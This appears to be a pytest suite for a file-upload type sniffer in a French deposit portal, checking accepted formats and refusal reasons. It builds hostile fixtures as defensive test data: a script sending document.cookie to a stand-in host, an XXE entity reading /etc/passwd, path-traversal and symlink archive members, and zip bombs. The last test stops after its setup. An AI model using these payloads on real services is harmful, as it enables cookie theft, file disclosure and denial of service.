"""Type checks of deposited files on a stream: what is accepted, what is refused and why."""

from __future__ import annotations

import ast
import email.message
import io
import random
import struct
import sys
import tracemalloc
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

import pytest
from werkzeug.http import parse_options_header

import portal.deposits.sniff as sniff_module
from portal.deposits.sniff import (
    HEAD_SIZE,
    TAIL_SIZE,
    FileKind,
    Refusal,
    SniffResult,
    TypeSniffer,
    content_disposition,
    safe_filename,
    sniff,
)

MiB = 1024 * 1024

# --- building files --------------------------------------------------------------------

PDF = (
    b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(1000)
TIFF_LE = b"II*\x00\x08\x00\x00\x00" + bytes(range(256)) * 4
TIFF_BE = b"MM\x00*\x00\x00\x00\x08" + bytes(range(256)) * 4
CSV_UTF8 = "\ufeffnom;prénom;montant\nDupont;Zoé;12,50\n".encode()
CSV_CP1252 = "nom;prénom;montant\nDupont;Zoé;12,50 €\n".encode("cp1252")
TXT = b"Compte rendu de la reunion du 3 mars.\r\nRien a signaler.\r\n"
XML_LATIN1 = (
    b'<?xml version="1.0" encoding="ISO-8859-1"?>\n'
    b"<!-- flux CGPEM -->\n<flux><ligne>\xe9t\xe9</ligne></flux>\n"
)
XML_BOM = b'\xef\xbb\xbf \n\t<?xml version="1.0"?>\n<racine a="1"/>\n'
SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>'
XHTML = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<html xmlns="http://www.w3.org/1999/xhtml"><body onload="x()"/></html>'
)
CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types '
    b'xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
)


def png() -> bytes:
    """A real 1×1 grey PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\x80"))
        + chunk(b"IEND", b"")
    )


def zip_of(*members: tuple[str | zipfile.ZipInfo, bytes], stored: bool = False) -> bytes:
    """An archive made by Python's zipfile, in memory."""
    buffer = io.BytesIO()
    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(buffer, "w", compression=method) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


def docx(*extra: tuple[str, bytes]) -> bytes:
    return zip_of(
        ("[Content_Types].xml", CONTENT_TYPES),
        ("_rels/.rels", b"<Relationships/>"),
        ("word/document.xml", b"<w:document/>"),
        *extra,
    )


def xlsx(*extra: tuple[str, bytes]) -> bytes:
    return zip_of(
        ("[Content_Types].xml", CONTENT_TYPES),
        ("_rels/.rels", b"<Relationships/>"),
        ("xl/workbook.xml", b"<workbook/>"),
        ("xl/worksheets/sheet1.xml", b"<worksheet/>"),
        *extra,
    )


def pptx() -> bytes:
    return zip_of(
        ("[Content_Types].xml", CONTENT_TYPES),
        ("_rels/.rels", b"<Relationships/>"),
        ("ppt/presentation.xml", b"<p:presentation/>"),
    )


def odf(kind: str, *extra: tuple[str, bytes]) -> bytes:
    """An OpenDocument file: `mimetype` first and stored, as the specification requires."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        mimetype = f"application/vnd.oasis.opendocument.{kind}".encode()
        archive.writestr(zipfile.ZipInfo("mimetype"), mimetype, zipfile.ZIP_STORED)
        archive.writestr("content.xml", b"<office:document-content/>", zipfile.ZIP_DEFLATED)
        archive.writestr("META-INF/manifest.xml", b"<manifest:manifest/>", zipfile.ZIP_DEFLATED)
        for name, data in extra:
            archive.writestr(name, data, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def plain_zip() -> bytes:
    return zip_of(
        ("courriers/lettre.pdf", PDF),
        ("courriers/", b""),
        ("tableaux/suivi.csv", CSV_UTF8),
        ("scans/page1.JPG", JPEG),
        ("scans/page2.tiff", TIFF_LE),
        ("notes.txt", TXT),
        ("flux.xml", XML_LATIN1),
        ("rapport.docx", docx()),
    )


# A Windows executable: DOS header whose e_lfanew (0x3C) points at the "PE" signature.
MZ_PE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + bytes(0x3C - 16)
    + struct.pack("<I", 0x40)
    + b"PE\x00\x00\x4c\x01"
    + bytes(200)
)
HTML_SCRIPT = b"<html><body><script>fetch('//x/?c='+document.cookie)</script></body></html>"
SVG_SCRIPT = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


class Unseekable(io.RawIOBase):
    """A sink zipfile cannot seek back in: it writes data descriptors after each member."""

    def __init__(self) -> None:
        self.data = bytearray()

    def writable(self) -> bool:
        return True

    def write(self, b: bytes) -> int:  # type: ignore[override]
        self.data += b
        return len(b)


def streamed_zip(
    *members: tuple[str, bytes], compression: int = zipfile.ZIP_DEFLATED, zip64: bool = False
) -> bytes:
    """An archive written as a stream (data descriptors), as by a web export or `zip -`."""
    sink = Unseekable()
    with zipfile.ZipFile(sink, "w", compression=compression) as archive:
        for name, data in members:
            with archive.open(name, "w", force_zip64=zip64) as member:
                member.write(data)
    return bytes(sink.data)


def zip_with(compression: int, *members: tuple[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


def with_hidden_member(data: bytes, name: str, content: bytes) -> bytes:
    """Insert a stored member after the last one, left out of the central directory."""
    directory = data.index(b"PK\x01\x02")
    size = len(content)
    local = struct.pack(
        "<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, zlib.crc32(content), size, size, len(name), 0
    )
    hidden = local + name.encode() + content
    eocd = data.rindex(b"PK\x05\x06")
    end = bytearray(data[eocd:])
    struct.pack_into("<I", end, 16, directory + len(hidden))  # where the directory now starts
    return data[:directory] + hidden + data[directory:eocd] + bytes(end)


def ole2(*names: str, padding: int = 0) -> bytes:
    """An OLE2 (Office 97-2003) file whose directory holds `names`, after `padding` sectors."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 0x18, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<I", header, 0x30, padding)  # first directory sector
    directory = bytearray()
    for name in ("Root Entry", *names):
        entry = bytearray(128)
        encoded = (name + "\0").encode("utf-16-le")
        entry[: len(encoded)] = encoded
        struct.pack_into("<HB", entry, 64, len(encoded), 5 if name == "Root Entry" else 2)
        directory += entry
    directory += bytes(-len(directory) % 512)
    filler = bytes(range(256)) * 2 * padding
    return bytes(header) + filler + bytes(directory) + bytes(range(256)) * 8


def patch_central(data: bytes, index: int, offset: int, value: bytes) -> bytes:
    """Overwrite bytes at `offset` of the `index`-th central directory entry."""
    at = -1
    for _ in range(index + 1):
        at = data.index(b"PK\x01\x02", at + 1)
    return data[: at + offset] + value + data[at + offset + len(value) :]


def set_encrypted_flag(data: bytes) -> bytes:
    """Set general purpose bit 0 in the first local header and central directory entry."""
    local = bytearray(data)
    local[6] |= 0x01
    central = data.index(b"PK\x01\x02")
    local[central + 8] |= 0x01
    return bytes(local)


def chunks_of(data: bytes, chunking: str, seed: int = 7) -> Iterator[bytes]:
    """Split `data` whole, byte by byte, or in random sizes (some of them a single byte)."""
    if chunking == "whole":
        yield data
        return
    if chunking == "bytes":
        for at in range(len(data)):
            yield data[at : at + 1]
        return
    rng = random.Random(seed)
    at = 0
    while at < len(data):
        size = rng.choice((1, 1, 2, 3, 7, 64, 511, 4096, 65_537, rng.randint(1, 300_000)))
        yield data[at : at + size]
        at += size


def check(name: str, data: bytes, chunking: str = "random", **options: int) -> SniffResult:
    """Feed every chunk, then decide (no early stop, so the whole path runs)."""
    sniffer = TypeSniffer(name, **options)
    for chunk in chunks_of(data, chunking):
        sniffer.feed(chunk)
    return sniffer.finish()


CHUNKINGS = ["whole", "bytes", "random"]

# --- accepted --------------------------------------------------------------------------

ACCEPTED = [
    ("rapport.pdf", PDF, FileKind.PDF),
    ("RAPPORT.PDF", PDF, FileKind.PDF),
    ("scan.jpg", JPEG, FileKind.JPEG),
    ("scan.jpeg", JPEG, FileKind.JPEG),
    ("scan.png", png(), FileKind.PNG),
    ("scan.tif", TIFF_LE, FileKind.TIFF),
    ("scan.tiff", TIFF_BE, FileKind.TIFF),
    ("courrier.docx", docx(), FileKind.DOCX),
    ("budget.xlsx", xlsx(), FileKind.XLSX),
    ("comite.pptx", pptx(), FileKind.PPTX),
    ("courrier.odt", odf("text"), FileKind.ODT),
    ("budget.ods", odf("spreadsheet"), FileKind.ODS),
    ("comite.odp", odf("presentation"), FileKind.ODP),
    ("ancien.doc", ole2("WordDocument", "1Table", "\x05SummaryInformation"), FileKind.DOC),
    ("ancien.xls", ole2("Workbook", "\x05SummaryInformation"), FileKind.XLS),
    ("tres-ancien.xls", ole2("Book"), FileKind.XLS),
    ("dossier.zip", plain_zip(), FileKind.ZIP),
    ("flux.xml", XML_LATIN1, FileKind.XML),
    ("flux.xml", XML_BOM, FileKind.XML),
    ("flux.xml", b"<flux><scripts>1</scripts><htmlContenu/><svgRef/></flux>", FileKind.XML),
    ("suivi.csv", CSV_UTF8, FileKind.CSV),
    ("suivi.csv", CSV_CP1252, FileKind.CSV),
    ("notes.txt", TXT, FileKind.TXT),
]


@pytest.mark.parametrize("chunking", CHUNKINGS)
@pytest.mark.parametrize(
    ("name", "data", "kind"), ACCEPTED, ids=[f"{k}-{n}" for n, _, k in ACCEPTED]
)
def test_allowed_file_is_accepted_whatever_the_chunk_sizes(
    name: str, data: bytes, kind: FileKind, chunking: str
) -> None:
    result = check(name, data, chunking)

    assert result == SniffResult.accepted(kind, name.rsplit(".", 1)[1].lower())
    assert result.ok and result.reason is None and result.message_fr == ""
    assert result.content_type == kind.content_type


def test_pdf_header_is_found_after_some_leading_bytes() -> None:
    assert check("rapport.pdf", b"\r\n" * 100 + PDF).kind is FileKind.PDF


def test_ole2_directory_after_the_head_is_still_found() -> None:
    data = ole2("WordDocument", padding=300)  # directory at 150 KiB

    assert len(data) > 2 * HEAD_SIZE
    assert check("ancien.doc", data).kind is FileKind.DOC


def test_zip_larger_than_the_tail_buffer_is_read_from_the_tail() -> None:
    big = random.Random(1).randbytes(300_000)
    data = zip_of(("annexe.pdf", PDF + big), ("suivi.csv", CSV_UTF8), stored=True)

    for tail_size in (5_000, 70_001, 131_072):
        assert check("dossier.zip", data, tail_size=tail_size).kind is FileKind.ZIP


def test_zip64_archive_with_zip64_member_headers_is_accepted() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        with archive.open("lettre.pdf", "w", force_zip64=True) as member:
            member.write(PDF)
        with archive.open("suivi.csv", "w", force_zip64=True) as member:
            member.write(CSV_UTF8)

    assert check("dossier.zip", buffer.getvalue()).kind is FileKind.ZIP


def test_zip64_archive_with_zip64_end_records_is_accepted(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # Given limits lowered so that zipfile writes ZIP64 extra fields and end records
    monkeypatch.setattr(zipfile, "ZIP64_LIMIT", 16)
    monkeypatch.setattr(zipfile, "ZIP_FILECOUNT_LIMIT", 1)
    data = zip_of(("lettre.pdf", PDF), ("suivi.csv", CSV_UTF8), ("scan.jpg", JPEG))
    monkeypatch.undo()
    assert b"PK\x06\x06" in data and b"PK\x06\x07" in data
    assert len(zipfile.ZipFile(io.BytesIO(data)).namelist()) == 3

    # When it is checked, Then it is accepted
    assert check("dossier.zip", data).kind is FileKind.ZIP


def test_zip_with_data_descriptors_is_accepted() -> None:
    class Unseekable(io.RawIOBase):
        def __init__(self) -> None:
            self.data = bytearray()

        def writable(self) -> bool:
            return True

        def write(self, b: bytes) -> int:  # type: ignore[override]
            self.data += b
            return len(b)

    sink = Unseekable()
    with zipfile.ZipFile(sink, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("lettre.pdf", PDF)
        archive.writestr("suivi.csv", CSV_UTF8)
    data = bytes(sink.data)
    assert data[6] & 0x08  # bit 3: sizes follow the data

    assert check("dossier.zip", data).kind is FileKind.ZIP


def test_zip_with_a_comment_that_mimics_an_end_record_is_accepted() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("lettre.pdf", PDF)
        archive.comment = b"PK\x05\x06" + bytes(30) + b"fin"

    assert check("dossier.zip", buffer.getvalue()).kind is FileKind.ZIP


def test_zip_with_desktop_metadata_files_is_accepted() -> None:
    data = zip_of(
        ("dossier/lettre.pdf", PDF),
        ("dossier/.DS_Store", b"\x00\x00\x00\x01Bud1"),
        ("__MACOSX/dossier/._lettre.pdf", b"\x00\x05\x16\x07"),
        ("dossier/Thumbs.db", b"\xd0\xcf\x11\xe0"),
    )

    assert check("dossier.zip", data).kind is FileKind.ZIP


# --- refused ---------------------------------------------------------------------------

REFUSED = [
    # active content, by name and by content
    ("page.html", b"<html><body>bonjour</body></html>", Refusal.ACTIVE_CONTENT),
    ("page.HTM", b"<p>bonjour</p>", Refusal.ACTIVE_CONTENT),
    ("page.txt", b"<!DOCTYPE html>\n<p>bonjour</p>", Refusal.ACTIVE_CONTENT),
    ("page.txt", b"Bonjour\n<HTML>\n<body>", Refusal.ACTIVE_CONTENT),
    ("notes.txt", b"Bonjour <ScRiPt src=x></script>", Refusal.ACTIVE_CONTENT),
    ("notes.txt", b"Voir <iframe src=//x>", Refusal.ACTIVE_CONTENT),
    ("liens.csv", b"id;url\n1;JavaScript:alert(1)\n", Refusal.ACTIVE_CONTENT),
    ("dessin.svg", SVG, Refusal.ACTIVE_CONTENT),
    ("dessin.svgz", b"\x1f\x8b\x08\x00", Refusal.ACTIVE_CONTENT),
    ("dessin.xml", SVG, Refusal.ACTIVE_CONTENT),
    ("dessin.png", SVG, Refusal.ACTIVE_CONTENT),
    ("dessin.png", b"<svg onload=alert(1)>", Refusal.ACTIVE_CONTENT),
    ("page.xml", XHTML, Refusal.ACTIVE_CONTENT),
    ("page.xml", b"<?xml version='1.0'?><x:svg xmlns:x='urn:x'/>", Refusal.ACTIVE_CONTENT),
    (
        "flux.xml",
        b'<flux><h:script xmlns:h="http://www.w3.org/1999/xhtml">x()</h:script></flux>',
        Refusal.ACTIVE_CONTENT,
    ),
    (
        "flux.xml",
        b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="x.xsl"?><flux/>',
        Refusal.ACTIVE_CONTENT,
    ),
    (
        "flux.xml",
        b'<?xml version="1.0"?><!DOCTYPE flux [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b"<flux>&x;</flux>",
        Refusal.ACTIVE_CONTENT,
    ),
    ("script.js", b"alert(1)", Refusal.ACTIVE_CONTENT),
    ("polyglotte.pdf", b"<html><script>x()</script>\n" + PDF, Refusal.ACTIVE_CONTENT),
    # types refused
    ("setup.exe", b"MZ\x90\x00\x03\x00\x00\x00", Refusal.TYPE_REFUSED),
    ("rapport.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff", Refusal.TYPE_REFUSED),
    ("inconnu.pdf", random.Random(3).randbytes(5000), Refusal.TYPE_REFUSED),
    ("rapport", PDF, Refusal.TYPE_REFUSED),
    ("rapport.", PDF, Refusal.TYPE_REFUSED),
    ("rapport.xyz", PDF, Refusal.TYPE_REFUSED),
    ("rapport.pdf.exe", PDF, Refusal.TYPE_REFUSED),
    ("macro.docm", docx(), Refusal.TYPE_REFUSED),
    ("suivi.csv", b"nom;montant\n\x00\x01\x02\x03", Refusal.TYPE_REFUSED),
    ("suivi.csv", "nom;montant\n".encode("utf-16"), Refusal.TYPE_REFUSED),
    ("presentation.ppt", ole2("PowerPoint Document"), Refusal.TYPE_REFUSED),
    ("installeur.doc", ole2("\x05SummaryInformation", "Property"), Refusal.TYPE_REFUSED),
    ("bigtiff.tif", b"II+\x00\x08\x00\x00\x00" + bytes(100), Refusal.TYPE_REFUSED),
    # content and name disagree
    ("scan.jpg", PDF, Refusal.EXTENSION_MISMATCH),
    ("rapport.pdf", JPEG, Refusal.EXTENSION_MISMATCH),
    ("scan.png", TIFF_LE, Refusal.EXTENSION_MISMATCH),
    ("rapport.pdf", TXT, Refusal.EXTENSION_MISMATCH),
    ("flux.xml", b"nom;montant\n1;2\n", Refusal.EXTENSION_MISMATCH),
    ("courrier.docx", plain_zip(), Refusal.EXTENSION_MISMATCH),
    ("dossier.zip", docx(), Refusal.EXTENSION_MISMATCH),
    ("courrier.docx", odf("text"), Refusal.EXTENSION_MISMATCH),
    ("budget.xlsx", docx(), Refusal.EXTENSION_MISMATCH),
    ("hybride.docx", docx(("xl/workbook.xml", b"<workbook/>")), Refusal.TYPE_REFUSED),
    ("rapport.pdf", plain_zip(), Refusal.EXTENSION_MISMATCH),
    ("budget.xls", ole2("WordDocument"), Refusal.EXTENSION_MISMATCH),
    ("rapport.pdf", ole2("WordDocument"), Refusal.EXTENSION_MISMATCH),
    # macros and passwords
    ("macro.docx", docx(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")), Refusal.MACROS),
    ("macro.xlsx", xlsx(("xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>")), Refusal.MACROS),
    ("macro.odt", odf("text", ("Basic/Standard/Module1.xml", b"<x/>")), Refusal.MACROS),
    ("macro.doc", ole2("WordDocument", "Macros", "VBA", "_VBA_PROJECT"), Refusal.MACROS),
    ("macro.xls", ole2("Workbook", "_VBA_PROJECT_CUR", "VBA"), Refusal.MACROS),
    (
        "protege.docx",
        ole2("EncryptionInfo", "EncryptedPackage", "\x06DataSpaces"),
        Refusal.ENCRYPTED_DOCUMENT,
    ),
    # archives
    ("dossier.zip", zip_of(("lettre.pdf", PDF), ("setup.exe", b"MZ")), Refusal.ZIP_MEMBER_REFUSED),
    ("dossier.zip", zip_of(("index.html", b"<p>")), Refusal.ZIP_MEMBER_REFUSED),
    ("dossier.zip", zip_of(("a/logo.SVG", SVG)), Refusal.ZIP_MEMBER_REFUSED),
    ("dossier.zip", zip_of(("LISEZMOI", TXT)), Refusal.ZIP_MEMBER_REFUSED),
    ("dossier.zip", zip_of(("macro.xlsm", xlsx())), Refusal.ZIP_MEMBER_REFUSED),
    ("dossier.zip", zip_of(("lettre.pdf", PDF), ("autre.zip", plain_zip())), Refusal.ZIP_NESTED),
    ("dossier.zip", zip_of(("autre.7z", b"7z\xbc\xaf\x27\x1c")), Refusal.ZIP_NESTED),
    ("dossier.zip", zip_of(("../lettre.pdf", PDF)), Refusal.ZIP_PATH_TRAVERSAL),
    ("dossier.zip", zip_of(("a/../../lettre.pdf", PDF)), Refusal.ZIP_PATH_TRAVERSAL),
    ("dossier.zip", zip_of(("..\\..\\lettre.pdf", PDF)), Refusal.ZIP_PATH_TRAVERSAL),
    ("dossier.zip", zip_of(("/etc/cron.d/x.txt", TXT)), Refusal.ZIP_PATH_TRAVERSAL),
    ("dossier.zip", zip_of(("C:/Temp/lettre.pdf", PDF)), Refusal.ZIP_PATH_TRAVERSAL),
    ("dossier.zip", zip_of(("a/. ./lettre.pdf", PDF)), Refusal.ZIP_PATH_TRAVERSAL),
    ("courrier.docx", docx(("../../word/x.xml", b"<x/>")), Refusal.ZIP_PATH_TRAVERSAL),
    ("dossier.zip", set_encrypted_flag(zip_of(("lettre.pdf", PDF))), Refusal.ZIP_ENCRYPTED),
    ("courrier.docx", set_encrypted_flag(docx()), Refusal.ZIP_ENCRYPTED),
    ("dossier.zip", zip_of(("lettre.pdf", PDF)) + b"junk", Refusal.ZIP_INVALID),
    ("dossier.zip", zip_of(("lettre.pdf", PDF))[:-30], Refusal.ZIP_INVALID),
    ("dossier.zip", b"PK\x03\x04" + bytes(200), Refusal.ZIP_INVALID),
    ("dossier.zip", zip_of(), Refusal.EMPTY),
    # what was checked must be what the central directory lists
    ("dossier.zip", with_hidden_member(zip_of(("a.pdf", PDF)), "b.txt", TXT), Refusal.ZIP_INVALID),
    (
        "dossier.zip",
        zip_of(("notes.txt", TXT)).replace(b"notes.txt", b"notes.csv", 1),  # local header only
        Refusal.ZIP_INVALID,
    ),
    ("dossier.zip", zip_with(zipfile.ZIP_BZIP2, ("a.pdf", PDF)), Refusal.ZIP_METHOD_UNSUPPORTED),
    ("dossier.zip", zip_with(zipfile.ZIP_LZMA, ("a.pdf", PDF)), Refusal.ZIP_METHOD_UNSUPPORTED),
    # nothing at all
    ("rapport.pdf", b"", Refusal.EMPTY),
]


@pytest.mark.parametrize(
    ("name", "data", "reason"),
    REFUSED,
    ids=[f"{reason}-{name}-{i}" for i, (name, _, reason) in enumerate(REFUSED)],
)
def test_refused_file_gets_a_stable_reason_and_a_french_message(
    name: str, data: bytes, reason: Refusal
) -> None:
    result = check(name, data)

    assert not result.ok
    assert result.reason is reason
    assert result.content_type is None
    assert result.message_fr and result.message_fr.endswith(".")
    # The message depends only on the reason and the detected kind: never on name or content.
    assert result.message_fr == SniffResult.refused(reason, "", result.kind).message_fr


@pytest.mark.parametrize("chunking", ["whole", "bytes"])
def test_refusals_do_not_depend_on_chunk_boundaries(chunking: str) -> None:
    for name, data, reason in REFUSED:
        if len(data) < 20_000:
            assert check(name, data, chunking).reason is reason, (name, reason)


def test_extension_mismatch_names_the_detected_type_in_french() -> None:
    result = check("scan.jpg", PDF)

    assert result.kind is FileKind.PDF
    assert "document PDF" in result.message_fr


def test_type_refused_message_lists_what_is_accepted() -> None:
    assert check("setup.exe", b"MZ").message_fr == (
        "Type de fichier refusé : seuls les PDF, images de numérisation (JPEG, PNG, TIFF), "
        "documents bureautiques, XML, CSV et archives ZIP vérifiées sont acceptés."
    )


def test_zip_member_that_is_a_symbolic_link_is_refused() -> None:
    # A link's data is its target, text: named as text, only the link itself is refused.
    link = zipfile.ZipInfo("notes.txt")
    link.create_system = 3
    link.external_attr = 0o120777 << 16

    assert check("dossier.zip", zip_of((link, b"/etc/passwd"))).reason is (
        Refusal.ZIP_PATH_TRAVERSAL
    )


@pytest.mark.parametrize(
    ("alias", "reason"),
    [("../../lettre.pdf", Refusal.ZIP_PATH_TRAVERSAL), ("setup.exe", Refusal.ZIP_MEMBER_REFUSED)],
)
def test_zip_member_unicode_path_alias_is_checked_too(alias: str, reason: Refusal) -> None:
    # Given a member named "lettre.pdf" whose Info-ZIP Unicode Path field says otherwise
    member = zipfile.ZipInfo("lettre.pdf")
    body = b"\x01" + struct.pack("<I", zlib.crc32(b"lettre.pdf")) + alias.encode()
    member.extra = struct.pack("<HH", 0x7075, len(body)) + body

    # When the archive is checked, Then the alias is judged like the name
    assert check("dossier.zip", zip_of((member, PDF))).reason is reason


def test_zip_with_overlapping_members_is_refused() -> None:
    # Given the second member pointing at the first one's data (the overlap zip bomb)
    data = zip_of(("a.txt", TXT), ("b.txt", TXT))
    data = patch_central(data, 1, 42, struct.pack("<I", 0))

    assert check("dossier.zip", data).reason is Refusal.ZIP_INVALID


def test_zip_with_two_members_of_one_name_is_refused() -> None:
    with pytest.warns(UserWarning, match="Duplicate name"):
        data = zip_of(("lettre.pdf", PDF), ("lettre.pdf", b"%PDF-1.4 autre"))

    assert check("dossier.zip", data).reason is Refusal.ZIP_INVALID


def test_zip_whose_central_directory_exceeds_the_tail_buffer_is_too_complex() -> None:
    data = zip_of(*[(f"pieces/justificatif-{i:04d}.pdf", PDF) for i in range(300)])

    assert check("dossier.zip", data).kind is FileKind.ZIP
    assert check("dossier.zip", data, tail_size=4096).reason is Refusal.ZIP_TOO_COMPLEX


def test_zip_with_too_many_members_is_too_complex() -> None:
    data = zip_of(*[(f"p{i}.txt", TXT) for i in range(6)])

    assert check("dossier.zip", data, max_zip_members=6).ok
    assert check("dossier.zip", data, max_zip_members=5).reason is Refusal.ZIP_TOO_COMPLEX


def test_zip_that_expands_beyond_the_limit_is_too_complex() -> None:
    data = zip_of(("zeros.txt", b"0" * 1_000_000))

    assert len(data) < 10_000
    assert check("dossier.zip", data, max_zip_uncompressed=999_999).reason is (
        Refusal.ZIP_TOO_COMPLEX
    )


def test_split_zip_archive_is_too_complex() -> None:
    data = zip_of(("lettre.pdf", PDF))
    eocd = data.rindex(b"PK\x05\x06")
    data = data[: eocd + 4] + struct.pack("<H", 1) + data[eocd + 6 :]  # "this is disk 1"

    assert check("dossier.zip", data).reason is Refusal.ZIP_TOO_COMPLEX


def test_ole2_names_outside_directory_entries_are_ignored() -> None:
    # Given "WordDocument" in UTF-16 inside the data, not at a directory entry boundary
    data = bytearray(ole2("\x05SummaryInformation"))
    text = "WordDocument\0".encode("utf-16-le")
    data[1000 + 6 : 1000 + 6 + len(text)] = text

    assert check("lettre.doc", bytes(data)).reason is Refusal.TYPE_REFUSED


def test_xml_whose_prolog_fills_the_head_is_refused() -> None:
    data = b'<?xml version="1.0"?>' + b"<!-- " + b"x" * HEAD_SIZE + b" --><flux/>"

    assert check("flux.xml", data).reason is Refusal.TYPE_REFUSED


# --- members of a plain archive, checked on their content ----------------------------

BAD_MEMBERS = [
    ("setup.pdf", MZ_PE),
    ("page.txt", HTML_SCRIPT),
    ("page.pdf", HTML_SCRIPT),
    ("i.xml", SVG_SCRIPT),
    ("annexe.pdf", zip_of(("setup.pdf", MZ_PE))),  # an archive disguised as a PDF
    ("annexe.docx", zip_of(("setup.pdf", MZ_PE))),  # ... or as an office document
    ("courrier.docx", docx(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"))),
    ("scan.jpg", PDF),
]


@pytest.mark.parametrize("chunking", CHUNKINGS)
@pytest.mark.parametrize(("name", "data"), BAD_MEMBERS, ids=[n for n, _ in BAD_MEMBERS])
def test_zip_member_is_refused_as_the_same_bytes_are_on_their_own(
    name: str, data: bytes, chunking: str
) -> None:
    # Given bytes refused as a file on their own, as the second file of an archive
    alone = check(name, data)
    assert not alone.ok and alone.reason is not None
    member_name = f"Dupont Jean/{name}"
    for stored in (False, True):
        archive = zip_of(
            ("lettre.pdf", PDF), ("Dupont Jean/", b""), (member_name, data), stored=stored
        )

        # When the archive is checked
        result = check("dossier.zip", archive, chunking)

        # Then it is refused for that member, by its position, for the same reason
        assert result.reason is Refusal.ZIP_MEMBER_REFUSED
        assert (result.member_position, result.member_reason) == (2, alone.reason)
        assert result.message_fr == (
            "Archive ZIP refusée : le fichier n° 2 qu'elle contient est refusé. " + alone.message_fr
        )
        assert "Dupont" not in result.message_fr


@pytest.mark.parametrize("compression", [zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED])
@pytest.mark.parametrize("zip64", [False, True])
def test_members_written_as_a_stream_are_checked_too(compression: int, zip64: bool) -> None:
    # Given archives written with data descriptors: no size before the data
    good = streamed_zip(
        ("lettre.pdf", PDF), ("vide.txt", b""), ("rapport.docx", docx()), ("suivi.csv", CSV_UTF8),
        compression=compression, zip64=zip64,
    )  # fmt: skip
    bad = streamed_zip(
        ("lettre.pdf", PDF), ("vide.txt", b""), ("page.txt", HTML_SCRIPT), ("suivi.csv", CSV_UTF8),
        compression=compression, zip64=zip64,
    )  # fmt: skip
    assert good[6] & 0x08

    for chunking in CHUNKINGS:
        assert check("dossier.zip", good, chunking).kind is FileKind.ZIP
        refused = check("dossier.zip", bad, chunking)
        assert (refused.member_position, refused.member_reason) == (3, Refusal.ACTIVE_CONTENT)


def test_stored_member_holding_a_forged_descriptor_is_refused() -> None:
    # Given a stored member whose data ends with what looks like its own data descriptor
    head = b"a;b\n1;2\n"
    forged = head + b"PK\x07\x08" + struct.pack("<III", zlib.crc32(head), len(head), len(head))
    data = streamed_zip(("suivi.csv", forged + b"PK\x03\x04" + TXT), compression=0)

    # When checked, Then the walk ends the member early and disagrees with the directory
    assert check("dossier.zip", data).reason is Refusal.ZIP_INVALID


def test_empty_members_and_folders_are_not_refused() -> None:
    data = zip_of(("vide.pdf", b""), ("dossier/", b""), ("dossier/lettre.pdf", PDF))

    assert check("dossier.zip", data).kind is FileKind.ZIP


def test_refused_member_stops_the_upload_before_the_rest_of_the_archive() -> None:
    # Given a bad first member followed by 4 MiB of a good one
    big = PDF + random.Random(2).randbytes(4 * MiB)
    data = zip_of(("page.txt", HTML_SCRIPT), ("annexe.pdf", big), stored=True)
    consumed = 0

    def stream() -> Iterator[bytes]:
        nonlocal consumed
        for at in range(0, len(data), 64 * 1024):
            consumed += 1
            yield data[at : at + 64 * 1024]

    # When it is checked as it streams, Then the refusal comes with the first chunk
    result = sniff("dossier.zip", stream())
    assert result.member_reason is Refusal.ACTIVE_CONTENT
    assert consumed == 1


def test_zip_bomb_is_refused_after_a_bounded_amount_of_inflating(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # Given 64 MiB of text deflated to 64 KiB, and a count of the bytes inflated
    data = zip_of(("suivi.csv", b"a;b\n" * (16 * MiB)))
    assert len(data) < 100 * 1024
    inflated = 0
    real_check = sniff_module._MemberWalk._check

    def counting(self: sniff_module._MemberWalk, member: object, out: bytes) -> None:
        nonlocal inflated
        inflated += len(out)
        real_check(self, member, out)  # type: ignore[arg-type]

    monkeypatch.setattr(sniff_module._MemberWalk, "_check", counting)

